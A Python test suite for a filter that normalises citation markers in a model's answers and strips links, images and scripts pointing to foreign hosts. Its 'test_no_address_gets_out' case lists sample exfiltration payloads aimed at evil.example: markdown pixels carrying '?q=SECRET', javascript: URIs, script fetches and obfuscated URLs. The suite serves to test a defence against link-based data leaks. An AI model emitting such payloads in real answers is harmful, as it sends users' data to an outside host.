"""Citations of a model's answer: validated, repaired, dropped; the same streamed and whole."""

import re
from itertools import accumulate

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from corpusmesh_core.citation import AnswerFilter, FilterOutcome, filter_answer

LABELS = (1203, 8812, 4410, 7007, 9119)
FOREIGN = re.compile(
    r"(?:https?|ftp)://(?!localhost|\[::1\]|127\.0\.0\.1)|\bwww\.(?=\w)|\]\(\s*[^\s)]*[:/.]|<(?:img|a|iframe|script)\b[^>]*=",
    re.I,
)


def streamed(text: str, cuts: list[int]) -> tuple[list[str], FilterOutcome]:
    answer_filter = AnswerFilter(LABELS)
    pieces = []
    position = 0
    for cut in cuts:
        pieces.append(answer_filter.feed(text[position : position + cut]))
        position += cut
    pieces.append(answer_filter.feed(text[position:]))
    pieces.append(answer_filter.finish())
    return pieces, answer_filter.outcome


@pytest.mark.parametrize(
    "written",
    [
        "[ID:1203]",
        "[ID: 1203]",
        "[ID : 1203]",
        "[ ID:1203 ]",
        "[id:1203]",
        "[IDs: 1203]",
        "[ID:#1203]",
        "[ID：1203]",
        "[ID:１２０３]",
        "【ID:1203】",
        "［ID：1203］",
        "[ID:1203】",
        "(ID:1203)",
        "（ID：1203）",
        "\\[ID:1203\\]",
        "[1203]",
        "ID:1203",
        "ID: 1203",
        "ID 1203",
        "(ID 1203)",
        "[ID 1203]",
        "[ID=1203]",
        "[ID #1203]",
        "[ID:1203",
    ],
)
def test_every_spelling_of_a_known_marker_becomes_the_one(written: str) -> None:
    text, outcome = filter_answer(f"The limit is 512 MiB {written}.", LABELS)
    assert text == "The limit is 512 MiB [ID:1203]."
    assert outcome == FilterOutcome((1203,), 0, 0)


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("[ID:1203][ID:8812]", "[ID:1203][ID:8812]"),
        ("[ID:1203, ID:8812]", "[ID:1203][ID:8812]"),
        ("[ID:1203, 8812]", "[ID:1203][ID:8812]"),
        ("[ID:1203,8812]", "[ID:1203][ID:8812]"),
        ("[ID 1203, ID 8812]", "[ID:1203][ID:8812]"),
        ("[ID:1203；8812、4410]", "[ID:1203][ID:8812][ID:4410]"),
        ("[ID:8812-7007]", "[ID:8812][ID:4410][ID:7007]"),
        ("[ID:8812–ID:7007]", "[ID:8812][ID:4410][ID:7007]"),
        ("ID:8812-4410", "[ID:8812][ID:4410]"),
        ("[ID:7007-8812]", "[ID:7007][ID:8812]"),
        ("[ID:1203][ID:1203]", "[ID:1203]"),
        ("[ID:1203, 99]", "[ID:1203]"),
    ],
)
def test_several_references_in_one_place_are_each_written_once(written: str, expected: str) -> None:
    assert filter_answer(f"a {written} b", LABELS)[0] == f"a {expected} b"


@pytest.mark.parametrize(
    "kept",
    [
        "Alice (ID: 4471) works here",
        "ticket ID:4471-AB is open",
        "the array a[0][1] and f[n](x) and List<String>",
        "see note [3]",
        "see [ID 3], (ID 4) and ID 5",
        "an ID of 1203 or IDs 12034",
        "a < b and c > d, x<y",
        "if a <b then",
        "see http://[::1]:8080/x",
        "VALID: 1203 is not a marker",
        "math \\[ x = y \\] and $a_{1}$",
        "| a | b |\n|---|---|",
        "http://localhost:8080/v1 and http://127.0.0.1:9200",
        "🎉 emoji 👩‍👩‍👧 and 中文，标点。",
    ],
)
def test_what_only_looks_like_a_marker_or_a_link_stays(kept: str) -> None:
    assert filter_answer(kept, LABELS) == (kept, FilterOutcome((), 0, 0))


def test_fr_a14_markers_resolve_by_label_and_unknown_ones_are_dropped_and_counted() -> None:
    by_position = [LABELS[0], LABELS[4], 99, LABELS[1], LABELS[4]]
    text = "First [ID:{}]. Second [ID:{}] [ID:{}]. Third [ID:{}][ID:{}].".format(*by_position)
    filtered, outcome = filter_answer(text, LABELS)
    assert filtered == "First [ID:1203]. Second [ID:9119]. Third [ID:8812][ID:9119]."
    assert outcome == FilterOutcome((1203, 9119, 8812), 1, 0)
    pieces, streamed_outcome = streamed(text, [1] * len(text))
    assert "".join(pieces) == filtered
    assert streamed_outcome == outcome
    # Reading the stored answer again changes nothing.
    assert filter_answer(filtered, LABELS) == (filtered, FilterOutcome((1203, 9119, 8812), 0, 0))


def test_a_marker_with_a_number_that_is_longer_than_any_of_ours_is_broken() -> None:
    text, outcome = filter_answer("Unlimited [ID:99999999999999999999].", LABELS)
    assert text == "Unlimited [ID no. 99999999999999999999]."
    assert outcome.cited == ()


FRAGMENTS = st.sampled_from(
    [
        *("[ID:1203]", "[ID: 8812, 4410]", "【ID:99】", "(ID:7007)", "ID:9119", "[ID:", "1203]", "[", "]", "(", ")"),
        *("<", ">", "<img src=", "<b>", "<think>", "</think>", "http", "s://", "evil.example/", "www.", "](", "]:"),
        *("\n", "\n\n", " ", "。", ". ", "text", "中文", "a", "=", '"', "`", "javascript:", "[x](y)", "![", "data:"),
        *("!", "//", "\\", "\u200b", "http://ttp", "hhttp://ttp", "http://[::1]/", "localhost"),
    ]
)
TEXTS = st.one_of(st.lists(FRAGMENTS, max_size=25).map("".join), st.text(max_size=60))


@settings(max_examples=800, deadline=None)
@given(TEXTS, st.lists(st.integers(1, 7), max_size=60))
def test_streamed_and_whole_are_the_same_for_any_cutting(text: str, cuts: list[int]) -> None:
    pieces, outcome = streamed(text, cuts)
    assert ("".join(pieces), outcome) == filter_answer(text, LABELS)


@settings(max_examples=800, deadline=None)
@given(TEXTS, st.lists(st.integers(1, 7), max_size=60))
def test_no_piece_ends_inside_a_marker(text: str, cuts: list[int]) -> None:
    pieces = streamed(text, cuts)[0]
    markers = [match.span() for match in re.finditer(r"\[ID:\d+\]", "".join(pieces))]
    for boundary in accumulate(len(piece) for piece in pieces):
        assert not any(start < boundary < end for start, end in markers)


@settings(max_examples=800, deadline=None)
@given(TEXTS)
def test_what_comes_out_cites_known_evidence_alone_and_has_no_foreign_address(text: str) -> None:
    filtered, outcome = filter_answer(text, LABELS)
    found = [int(number) for number in re.findall(r"\[ID:(\d+)\]", filtered)]
    assert set(found) == set(outcome.cited) <= set(LABELS)
    assert not FOREIGN.search(filtered), filtered


@settings(max_examples=300, deadline=None)
@given(TEXTS)
def test_filtering_again_keeps_every_citation(text: str) -> None:
    filtered, outcome = filter_answer("Text " + text, LABELS)
    assert set(filter_answer(filtered, LABELS)[1].cited) == set(outcome.cited)


@pytest.mark.parametrize(
    "attack",
    [
        "![pixel](https://evil.example/?q=SECRET)",
        "[![x](https://evil.example/a)](https://evil.example/b)",
        "[click](https://evil.example/?q=SECRET 'title')",
        "[click](<https://evil.example/a b>)",
        "[click](javascript:alert(1))",
        "[click](java&#115;cript:alert(1))",
        "[click](data:text/html;base64,PHN2Zz4=)",
        "[click](//evil.example/x)",
        "[click](/\\evil.example/x)",
        "![x][ref]\n\n[ref]: https://evil.example/?q=SECRET",
        "[ref]:\nhttps://evil.example/x",
        "<https://evil.example/x>",
        "https://evil.example/?q=SECRET",
        "HTTPS://EVIL.EXAMPLE/?q=SECRET",
        "https://localhost@evil.example/x",
        "www.evil.example/?q=SECRET",
        "<img src=https://evil.example/x>",
        "<img src='https://evil.example/x' alt='>'>",
        "<a href=//evil.example>x</a>",
        "<svg onload=alert(1)>",
        "<x style=background:url(//evil.example/a)>",
        "<script>fetch('https://evil.example')</script>",
        "htt[](u.v)ps://evil.example/",
        "h[ID:99]ttps://evil.example/",
        "ht[t](u.v)ps://evil.example",
        "![a][ID:99](https://evil.example/x)",
        "[ID:1203](https://evil.example/x)",
        "[a](https://evil.example/" + "A" * 3000 + ")",
        "[" + "A" * 1200 + "](javascript:alert(1))",
        "<img " + " " * 2100 + "src=https://evil.example/x>",
        "hhttp://ttp/" + "x" * 2036 + "://evil.example/",
        "\\![x](https://evil.example/a)",
        "`![x](https://evil.example/a)`",
        "```\n<img src=https://evil.example/x>\n```",
        "[x](htt\u200bps://evil.example/a)",
        "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    ],
)
def test_no_address_gets_out(attack: str) -> None:
    filtered, outcome = filter_answer(f"Before {attack} after [ID:8812].", LABELS)
    assert not FOREIGN.search(filtered), filtered
    assert "\x1b" not in filtered
    assert "?q=" not in filtered
    assert filtered.endswith("[ID:8812].")
    assert outcome.removed_address_count >= 1


def test_links_to_hosts_of_our_own_stay_and_lookalikes_do_not() -> None:
    hosts = {"docs.acme.example"}
    good = "[guide](https://docs.acme.example/a?b=1) and https://docs.acme.example/c"
    assert filter_answer(good, LABELS, allowed_hosts=hosts)[0] == good
    for bad in (
        "https://docs.acme.example.evil.example/",
        "https://docs.acme.example@evil.example/",
        "http://docs.acme.examp1e/",
    ):
        assert f"({bad})" not in filter_answer(f"[x]({bad})", LABELS, allowed_hosts=hosts)[0]
    assert filter_answer("![x](https://docs.acme.example/a)", LABELS, allowed_hosts=hosts)[0] == "x"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<think>maybe [ID:1203]</think>\n\nYes [ID:8812].", "Yes [ID:8812]."),
        (" \n<think>never closed", ""),
        ("Yes <think>no", "Yes <think>no"),
        ("<thi", "<thi"),
    ],
)
def test_a_leading_thought_is_not_part_of_the_answer(text: str, expected: str) -> None:
    assert filter_answer(text, LABELS)[0] == expected


def test_a_long_answer_costs_time_that_grows_with_its_length() -> None:
    # Each of these made a backtracking parser quadratic or worse; the bound is the timeout of the test.
    for hostile in ("[" * 20_000, "![" * 10_000, "<a " * 7_000, "[ID:" * 5_000, "(" * 20_000, "[a](" * 5_000):
        filter_answer(hostile, LABELS)
